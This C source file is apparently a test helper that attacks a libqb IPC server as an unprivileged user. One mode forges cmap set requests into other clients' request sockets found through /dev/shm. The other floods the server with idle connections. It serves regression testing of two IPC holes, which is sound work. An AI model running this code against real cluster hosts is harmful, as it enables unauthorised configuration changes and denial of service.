/*
 * qbattack: what a local user without any right tries against a libqb
 * server (issue 17's two IPC holes), for the tests to run as nobody.
 *
 * usage: qbattack inject SRVPID SERVICE KEY
 *            send a cmap set KEY = 1 (u8) into the request socket of every
 *            connection of server SRVPID that /dev/shm shows (anyone can
 *            list it); prints "sent N refused M"
 *        qbattack flood SERVICE N SECS
 *            open N connections to SERVICE that never send anything, hold
 *            them SECS seconds, then print how they stand:
 *            "connected N refused R closed C open O"
 */
#include <dirent.h>
#include <errno.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <sys/un.h>
#include <unistd.h>

/* libqb's names: abstract, NUL-padded to the whole sockaddr_un. */
static void abstract(struct sockaddr_un *a, const char *name)
{
	memset(a, 0, sizeof(*a));
	a->sun_family = AF_UNIX;
	snprintf(a->sun_path + 1, sizeof(a->sun_path) - 1, "%s", name);
}

static int inject(const char *srvpid, const char *service, const char *key)
{
	/* ipc_cmap.h's req_lib_cmap_set for a u8: header {id 0, size},
	 * mar_name_t key at 16, value_len at 280, type at 288, value at 296. */
	unsigned char msg[297];
	memset(msg, 0, sizeof(msg));
	int32_t size = sizeof(msg);
	memcpy(msg + 8, &size, 4);
	uint16_t klen = strlen(key);
	memcpy(msg + 16, &klen, 2);
	memcpy(msg + 18, key, klen);
	uint64_t vlen = 1;
	memcpy(msg + 280, &vlen, 8);
	msg[288] = 2; /* CMAP_VALUETYPE_UINT8 */
	msg[296] = 1;

	char prefix[64];
	snprintf(prefix, sizeof(prefix), "qb-%s-", srvpid);
	DIR *d = opendir("/dev/shm");
	if (!d) {
		perror("/dev/shm");
		return 1;
	}
	int fd = socket(AF_UNIX, SOCK_DGRAM, 0);
	int sent = 0, refused = 0;
	struct dirent *e;
	while ((e = readdir(d)) != NULL) {
		if (strncmp(e->d_name, prefix, strlen(prefix)) != 0)
			continue;
		char name[256];
		struct sockaddr_un a;
		snprintf(name, sizeof(name), "/dev/shm/%s/qb-%s-request", e->d_name, service);
		abstract(&a, name);
		if (sendto(fd, msg, sizeof(msg), 0, (struct sockaddr *)&a, sizeof(a)) == (ssize_t)sizeof(msg))
			sent++;
		else
			refused++;
	}
	closedir(d);
	printf("sent %d refused %d\n", sent, refused);
	return 0;
}

static int flood(const char *service, int n, int secs)
{
	struct sockaddr_un a;
	abstract(&a, service);
	int *fds = calloc(n, sizeof(int));
	int connected = 0;
	for (int i = 0; i < n; i++) {
		int fd = socket(AF_UNIX, SOCK_STREAM, 0);
		if (fd < 0) {
			perror("socket");
			break;
		}
		if (connect(fd, (struct sockaddr *)&a, sizeof(a)) != 0) {
			close(fd);
			continue;
		}
		fds[connected++] = fd;
	}
	printf("holding %d\n", connected);
	fflush(stdout);
	sleep(secs);
	/* A refused connection has the server's answer waiting: the 12 328
	 * byte connection response with -EAGAIN at offset 16. */
	int refused = 0, closed = 0, open = 0;
	static unsigned char buf[12328];
	for (int i = 0; i < connected; i++) {
		ssize_t r = recv(fds[i], buf, sizeof(buf), MSG_DONTWAIT);
		int32_t err;
		memcpy(&err, buf + 16, 4);
		if (r < 0 && errno == EAGAIN)
			open++;
		else if (r >= 24 && err == -EAGAIN)
			refused++;
		else
			closed++;
		close(fds[i]);
	}
	printf("connected %d refused %d closed %d open %d\n", connected, refused, closed, open);
	return 0;
}

int main(int argc, char **argv)
{
	if (argc == 5 && strcmp(argv[1], "inject") == 0)
		return inject(argv[2], argv[3], argv[4]);
	if (argc == 5 && strcmp(argv[1], "flood") == 0)
		return flood(argv[2], atoi(argv[3]), atoi(argv[4]));
	fprintf(stderr, "usage: qbattack inject SRVPID SERVICE KEY | flood SERVICE N SECS\n");
	return 2;
}
